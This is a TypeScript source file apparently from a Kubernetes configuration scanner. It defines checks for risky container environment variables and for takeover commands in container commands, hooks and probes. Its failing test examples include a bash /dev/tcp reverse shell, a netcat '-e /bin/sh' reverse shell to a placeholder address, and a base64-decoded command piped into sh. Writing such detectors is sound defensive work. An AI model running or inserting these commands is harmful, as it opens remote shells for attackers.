import { VARIABLE_RULES, variableRisk } from '../../../container-options/variables.ts';
import { TAKEOVER, takeoverIn } from '../../../scripts/texts.ts';
import { containerCheck, type KubernetesCheck } from '../check.ts';
import { podText } from '../examples.ts';
import { listAt, shown, textAt, textsAt } from '../values.ts';

const exampleOf = ([name, value]: readonly [string, string]) =>
  podText({ container: `env:\n  - name: ${name}\n    value: "${value}"` });

/** Where a container says what is run. */
const COMMANDS = [
  ['command'],
  ['args'],
  ['lifecycle', 'postStart', 'exec', 'command'],
  ['lifecycle', 'preStop', 'exec', 'command'],
  ['livenessProbe', 'exec', 'command'],
  ['readinessProbe', 'exec', 'command'],
  ['startupProbe', 'exec', 'command'],
];

/** What variables and commands of a container open. */
export const VARIABLE_CHECKS: readonly KubernetesCheck[] = [
  ...VARIABLE_RULES.map(({ risk, bad, good, ...head }): KubernetesCheck =>
    containerCheck(
      {
        ...head,
        id: `kubernetes-${risk}`,
        failing: [exampleOf(bad)],
        passing: [exampleOf(good)],
      },
      function* ({ value, path }) {
        for (const [index, variable] of listAt(value, 'env').entries()) {
          const [name, text] = [textAt(variable, 'name'), textAt(variable, 'value')];
          if (name !== undefined && text !== undefined && variableRisk(name, text) === risk)
            yield {
              path: [...path, 'env', index, 'value'],
              actual: `${shown(name)}: ${shown(text)}`,
              expected: `no ${shown(name)}`,
            };
        }
      },
    ),
  ),
  containerCheck(
    {
      ...TAKEOVER,
      id: 'kubernetes-takeover',
      failing: [
        podText({ container: 'command: [bash, -c, "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1"]' }),
        podText({ container: 'command: [nc, 192.0.2.7, "4444", -e, /bin/sh]' }),
        podText({
          container:
            'lifecycle:\n  postStart:\n    exec:\n      command: [sh, -c, "echo bHMK | base64 -d | sh"]',
        }),
      ],
      passing: [
        podText({ container: 'command: [sh, -c, "until nc -z db 5432; do sleep 1; done"]' }),
        podText({ container: 'command: [/bin/sh, -c, "mysqld --socket=/tmp/mysql.sock"]' }),
        podText({ container: 'command: [bash, -c, "until </dev/tcp/db/5432; do sleep 1; done"]' }),
        podText({ container: 'command: [sh, -c, "echo $KEY | base64 -d > /tmp/key && exec web"]' }),
      ],
    },
    function* ({ value, path }) {
      for (const keys of COMMANDS) {
        const found = takeoverIn(textsAt(value, ...keys));
        if (found !== undefined)
          yield { path: [...path, ...keys], actual: found, expected: 'the program of the image' };
      }
    },
  ),
];
